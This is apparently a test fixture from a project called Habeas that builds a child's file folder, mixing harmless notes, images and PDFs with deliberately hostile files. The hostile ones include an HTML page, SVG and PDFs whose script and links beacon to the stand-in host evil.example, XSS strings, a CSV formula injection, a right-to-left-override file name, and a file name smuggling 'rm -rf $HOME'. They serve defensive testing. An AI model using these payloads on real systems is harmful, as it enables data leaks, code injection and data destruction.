// SPDX-FileCopyrightText: 2026 The Habeas authors
// SPDX-License-Identifier: GPL-3.0-or-later
//
// What lies in the folder of the invented pupil: {file name: content}. "evil.example" is where hostile content would like
// to send something; nothing may ever ask for it.

import { crc32, deflateSync } from "./zlib.mjs";

export const evil = "evil.example";

function chunk(type, data) {
    const body = Buffer.concat([Buffer.from(type), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const check = Buffer.alloc(4);
    check.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, check]);
}

function png(side) {
    const head = Buffer.alloc(13);
    head.writeUInt32BE(side, 0);
    head.writeUInt32BE(side, 4);
    head.set([8, 2, 0, 0, 0], 8);
    const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(side * 3, Buffer.from([0x1d, 0x5a, 0x96]))]);
    const rows = Buffer.concat(Array.from({ length: side }, () => row));
    return Buffer.concat([Buffer.from("\x89PNG\r\n\x1a\n", "latin1"), chunk("IHDR", head), chunk("IDAT", deflateSync(rows)), chunk("IEND", Buffer.alloc(0))]);
}

/** One second of a tone, 8 bits, 8 kHz. */
function wav() {
    const samples = Buffer.from(Array.from({ length: 8000 }, (_, i) => 128 + Math.round(60 * Math.sin(i / 3))));
    const head = Buffer.alloc(44);
    head.write("RIFF", 0);
    head.writeUInt32LE(36 + samples.length, 4);
    head.write("WAVEfmt ", 8);
    head.writeUInt32LE(16, 16);
    head.writeUInt16LE(1, 20);
    head.writeUInt16LE(1, 22);
    head.writeUInt32LE(8000, 24);
    head.writeUInt32LE(8000, 28);
    head.writeUInt16LE(1, 32);
    head.writeUInt16LE(8, 34);
    head.write("data", 36);
    head.writeUInt32LE(samples.length, 40);
    return Buffer.concat([head, samples]);
}

/** A page of text; `catalog` and `page` add entries to the document's catalog and to the page. */
function pdf(text, catalog = "", page = "") {
    const stream = `BT /F1 24 Tf 40 100 Td (${text}) Tj ET`;
    const objects = [
        `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
        `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ];
    let body = "%PDF-1.4\n";
    const offsets = objects.map((object, i) => {
        const at = body.length;
        body += `${i + 1} 0 obj\n${object}\nendobj\n`;
        return at;
    });
    const table = offsets.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("");
    return `${body}xref\n0 6\n0000000000 65535 f \n${table}trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`;
}

const script = `document.title='EVIL';parent.postMessage('EVIL','*');new Image().src='http://${evil}/from-script';fetch('http://${evil}/fetched')`;

const hostilePage = `<!DOCTYPE html><html><head><title>Seite</title>
<base href="http://${evil}/base/"><meta http-equiv="refresh" content="0; url=http://${evil}/refresh">
<link rel="dns-prefetch" href="//dns.${evil}"><link rel="preconnect" href="http://pre.${evil}"><link rel="stylesheet" href="http://${evil}/sheet.css">
<link rel="icon" href="http://${evil}/icon.png"><style>body{background:url(http://${evil}/background.png)} @import url(http://${evil}/import.css);</style>
<script>${script}</script><script src="http://${evil}/script.js"></script></head>
<body onload="${script}" background="http://${evil}/body.png"><h1>Feindliche Seite</h1>
<img src="http://${evil}/img.png" onerror="${script}"><img srcset="http://${evil}/srcset.png 1x"><picture><source srcset="http://${evil}/source.png"><img></picture>
<video src="http://${evil}/video.mp4" poster="http://${evil}/poster.png" autoplay></video><audio src="http://${evil}/audio.mp3" autoplay></audio>
<svg><image href="http://${evil}/svg.png"/><a xlink:href="http://${evil}/xlink"><text>x</text></a><script>${script}</script></svg>
<iframe src="http://${evil}/frame"></iframe><iframe srcdoc="<script>${script}</script>"></iframe><object data="http://${evil}/object"></object><embed src="http://${evil}/embed">
<form action="http://${evil}/form"><input name="a" autofocus onfocus="${script}"><button id="send">Senden</button></form>
<a id="top" target="_top" href="http://${evil}/top">oben</a> <a id="self" href="http://${evil}/self">hier</a> <a id="new" target="_blank" href="http://${evil}/new">neu</a>
<a id="js" href="javascript:${script}">js</a> <a ping="http://${evil}/ping" href="#">ping</a> <p style="background:url(http://${evil}/style.png)">Ende der feindlichen Seite</p>
</body></html>`;

const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80" onload="${script.replace(/&/g, "&amp;")}">
<script>${script.replace(/&/g, "&amp;")}</script><image xlink:href="http://${evil}/in-svg.png" width="10" height="10"/><style>@import url(http://${evil}/svg.css);</style>
<foreignObject width="100" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://${evil}/in-svg-frame"/></foreignObject>
<rect width="120" height="80" fill="#1d5a96"/></svg>`;

const hostilePdf = pdf("Feindliches PDF", `/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://${evil}/pdf-js'\\); this.submitForm\\('http://${evil}/pdf-submit'\\);) /Next << /S /URI /URI (http://${evil}/pdf-uri) >> >>`);
const hostilePdfUri = pdf("Feindliche Adresse", `/OpenAction << /S /URI /URI (http://${evil}/pdf-open) >>`);

const link = `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 400 200] /Border [0 0 0] /A << /S /URI /URI (http://${evil}/pdf-link) >> >>]`;

const log = Array.from({ length: 6000 }, (_, i) => `203.0.113.7 - mia [17/Nov/2026:10:00:${String(i % 60).padStart(2, "0")} +0100] "GET /seite/${i} HTTP/1.1" 200 5\n`).join("");

export const contents = {
    "Notiz.txt": "Liebe Oma,\r\nheute war ich im Zoo. 🐱\r\nGrüße, Mia\r\n",
    "zurückgehalten.txt": "Das gehört einem anderen Kind.\n",
    "Alter Text.txt": Buffer.from("Gr\xfc\xdfe aus alter Zeit\n", "latin1"),
    "leer.txt": "",
    "Lange Liste.txt": "Eine Zeile wie die andere.\n".repeat(60000),
    "Programm.bin": Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 3, 0xff, 0xfe]),
    "Bild.png": png(64),
    "Kein Bild.jpg": "das ist kein Bild",
    "Zeichnung.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40"><rect width="80" height="40" fill="green"/></svg>',
    "Ton.wav": wav(),
    "Brief.pdf": pdf("Ein Brief"),
    "Termine.ics": "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Klassenfahrt <script>x</script>\r\nDTSTART:20260301T080000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
    "Kontakte.vcf": "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Oma <Gerda>\r\nTEL;TYPE=home:0511 1234\r\nEND:VCARD\r\n",
    "Chat.json": JSON.stringify([{ from: "Mia", text: "Hallo <img src=x onerror=alert(1)>", at: "2026-03-01T10:00:00Z" }, { from: "Oma", text: "Hallo Mia" }]),
    "Tabelle.csv": "Datum;Ort\n2026-01-02;Zoo\n2026-01-03;=cmd|calc\n",
    "Zugriffe.log": log,
    "Seite.html": hostilePage,
    "Feind.svg": hostileSvg,
    "Feind.pdf": hostilePdf,
    "Feind2.pdf": hostilePdfUri,
    "Verweis.pdf": pdf("Ein Verweis", "", link),
    "<img src=x onerror=document.title='EVIL'>.txt": "Ein Name wie Markup\n",
    "umgekehrt\u202Etxt.exe": "Ein Name, der sich umdreht\n",
    "'; rm -rf $HOME; '.txt": "Ein Name für eine Shell\n",
};
